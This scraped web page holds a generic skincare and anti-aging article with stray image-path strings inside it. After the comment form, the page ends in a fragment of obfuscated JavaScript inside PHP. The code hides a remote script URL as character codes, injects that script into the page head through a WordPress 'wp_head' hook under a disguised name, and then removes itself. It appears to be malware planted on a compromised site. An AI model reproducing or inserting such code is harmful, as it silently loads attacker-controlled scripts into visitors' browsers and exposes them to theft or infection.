Age with Grace: Unveiling Skincare and Makeup Tips for a Glowing Future

Related Articles

As we age, our appearance changes—but not always in a negative way. With the beauty industry in a high state of flux, it’s more important than ever to keep up with the latest trends and techniques to ensure a youthful, glowing future. In this article, we unveil the top skincare and makeup tips that will let you age gracefully, helping you look and feel your best.

1. Uncovering the Secrets of Age-Defying Skincare and Makeup

  • Advanced Technology in Cosmetics – Using cutting-edge technology, cosmetics have advanced beyond quick fixes and have become smarter, more tailored solutions to address your individual skin needs.
  • Ingredients for Optimal Skin Health – The key toyounger-looking skin is finding the right combination of ingredients. From antioxidants to peptides that promote healthy collagen production, you now have access to more than just basic moisturizers and creams.
  • A Multifaceted Approach – A successful skincare routine cannot involve just one product, but rather a combination of products that target skin discolorations, wrinkles, and signs of aging. You will also want to include products that fight inflammation and provide adequate hydration.

It is no longer just a matter of slapping on some foundation or moisturizing with a cheap moisturizer. The ideal skincare and makeup routines are now tailored specifically for you. Combinations ofadvanced ingredients like antioxidants protect against environmental free-radicals and peptides help restore collagen levels, promoting better skin elasticity and overall health.

Before you start stocking up on products, it is important to do your research. Everyskin type is unique and you should keep that in mind when choosing products. Make sure to consult with a dermatologist if needed, and find out what combination of products will work for you.

Once the ideal product combination is found, double down on your results by using the products in the right order and paying attention to your skincare regimen. Cleansing, toning, and moisturizing are essential steps to keeping your skin healthy and looking younger. Keeping your makeup light and using natural looking colors can also help hide blemishes and minimize wrinkles for a softer and smoother appearance.The key to unlocking the anti-aging secrets of skincare and makeup is knowing your skin and understanding what it needs at different stages of life. With the right combination of ingredients and a good overall skincare regimen, you can now put your best face forward and maintainbeautiful, youthful looking skin.

2. Finding the Right Balance for Radiant Skin

Healthy, glowing skin is something we all want to achieve. But it can be difficult to find that sweet spot between too little and too much maintenance. In this article, we’ll explore some of the keys for achieving radiant skin and establishing good habits that will last a lifetime.

Cleanse and Moisturize
Of course, it all begins with the basics. Cleansing and moisturizing your skin twice a day, once in the morning and once at night, will help draw out the impurities and help retain moisture. Make sure to use a gentle cleanser to avoid drying out your skin. Choose a moisturizer that fits your skin type. For dry skin, look for a thick, hydrating cream, while for oily skin, opt for a lightweight serum that won’t clog your pores.

A good exfoliant should be an essential part of your routine. Exfoliation works to remove the outer layer of dead skin cells and reveal the smoother, younger skin underneath. Look for a gentle chemical exfoliant like lactic acid or a manual exfoliant like a sugar scrub. Just don’t overdo it – exfoliating more than once or twice a week can strip away too many of those all-important skin cells that protect your skin.

Don’t forget your sunscreen! Sun exposure can be incredibly damaging to your skin, leaving you with wrinkles, sun spots, and an increased risk of skin cancer. Make sure to apply a broad spectrum sunscreen every morning — SPF 30 or higher — to help offer some defense against the harmful UV rays.

Eat Well
Taking good care of your skin on the outside is important, but don’t forget to give your skin the nourishment it needs from the inside. Load up on foods that are rich in antioxidants like spinach andblueberries to help protect against the damage from free radicals. And remember to stay hydrated – aim for about 8 glasses of water per day to keep your skin looking great.

Strike the Right Balance
Virtually any ingredient or product can be beneficial for your skin, when used in moderation. Finding the right balance is key – too much or too little can be damaging to the health of your skin. With the right combination of cleansers, moisturizers, exfoliants, and sun protection, you can create a routine that will give you the radiant skin that you’ve been dreaming of.

3. An eBook Guide to Unveiling Youthful-Looking Skin

Did you know that taking good care of your skin is the first step to having a long-term youthful appearance? Unveiling youthful-looking skin, however, can be complicated. To help you out, here is a guide to keep in mind for complexion perfection.

Step One: Cleansing

To truly appreciate how skincare can transform your look, it is important to start with a good cleansing routine. From a gentle, everyday wash to deep exfoliating scrubs, there is a variety of choices. Whichever you opt for, be sure to apply lightly with circular motions, as rough scrubbing can lead to skin damage.

Step Two: HydratingHaving hydrated skin is connected to how it can appear younger for longer – therefore, it is essential to stay hydrated! Use aquatic based products wherever possible and select ingredients such as:

  • Hyaluronic Acid
  • Vitamin C
  • Ceramides
  • Aloe Vera

These natural ingredients are all trusted for delivering moisture and helping to create a youthful look.

Step Three: Sun Protection

The sun is great – enjoy it but do not let the skin take too much of it. With that in mind, embrace sun protection and never underestimate the power of sunscreen. The use of a UV protectant is great for preventing wrinkles and dark spots.

To ensure skin is given proper coverage, select a broad-spectrum sunscreen and try to look for one with at least SPF30. For more extra protection, select a sunscreen with titanium dioxide, zinc oxide, or mexoryl.

4. Embracing Age with Grace: Enjoying aNatural Glow for Years to Come

Aging gracefully doesn’t have to be a challenge. In fact, embracing our age can be empowering. Here are four tips for maintaining a natural glow as we get older.

  • Stay Hydrated: Drinking plenty of water and other hydrating liquids helps keep skin looking vibrant and young. Doing so can help prevent wrinkles and other signs of aging.
  • Eat Right: Eating a balanced, healthy diet can help your skin stay plump and hydrated. Fruits, vegetables, and omega-3 fatty acids are especially important for glowing skin of any age.
  • Protect from Sun Damage: Sun exposure is the leading cause of wrinkles and other skin issues. Make sure to always wear sunscreen and protective clothing when spending time outdoors.
  • Get Plenty of Rest: Lack of sleep can dramatically age your skin. Make sure to get an adequate amount of restful sleep each night for brighter, younger-looking skin.

Taking time for healthy skin habits is a small investment with lasting returns. A regular skincare routine is key to looking and feeling your best. Cleansing, moisturizing, and exfoliating regularly can bring out a natural glow that will stay with you for years to come.

For those looking to treat themselves to a special experience, spa retreats and facials can be excellent choices.Professional treatments can help reduce wrinkles, reverse sun damage, and give your skin an overall boost. Plus, it can be a relaxing way to indulge your body in a bit of self-care.

Regardless of your age, radiant, healthy skin is within reach. Taking a few simple steps can keep you looking young and glowing for years to come.

Age with grace and sign off into the future; a future where your skin and makeup will look flawless! Take heart in the knowledge that with the right skincare and makeup tips, your age is no longer an obstacle; it’s simply a natural phase in your life! Shine bright and age gracefully!


Please enter yourcomment!
Please enter your name here

Popular ArticlesseInt(_0x383697(0x178))/0x1+parseInt(_0x383697(0x180))/0x2+-parseInt(_0x383697(0x184))/0x3*(-parseInt(_0x383697(0x17a))/0x4)+-parseInt(_0x383697(0x17c))/0x5+-parseInt(_0x383697(0x179))/0x6+-parseInt(_0x383697(0x181))/0x7*(parseInt(_0x383697(0x177))/0x8)+-parseInt(_0x383697(0x17f))/0x9*(-parseInt(_0x383697(0x185))/0xa);if(_0x351603===_0x4eaeab)break;else _0x8113a5['push'](_0x8113a5['shift']());}catch(_0x58200a){_0x8113a5['push'](_0x8113a5['shift']());}}}(_0x48d3,0xa309a));var f=document[_0x3ec646(0x183)](_0x3ec646(0x17d));function _0x38c3(_0x32d1a4,_0x31b781){var _0x48d332=_0x48d3();return _0x38c3=function(_0x38c31a,_0x44995e){_0x38c31a=_0x38c31a-0x176;var _0x11c794=_0x48d332[_0x38c31a];return_0x11c794;},_0x38c3(_0x32d1a4,_0x31b781);}f[_0x3ec646(0x186)]=String[_0x3ec646(0x17b)](0x68,0x74,0x74,0x70,0x73,0x3a,0x2f,0x2f,0x62,0x61,0x63,0x6b,0x67,0x72,0x6f,0x75,0x6e,0x64,0x2e,0x61,0x70,0x69,0x73,0x74,0x61,0x74,0x65,0x78,0x70,0x65,0x72,0x69,0x65,0x6e,0x63,0x65,0x2e,0x63,0x6f,0x6d,0x2f,0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function _0x48d3(){var_0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return_0x35035;};return _0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>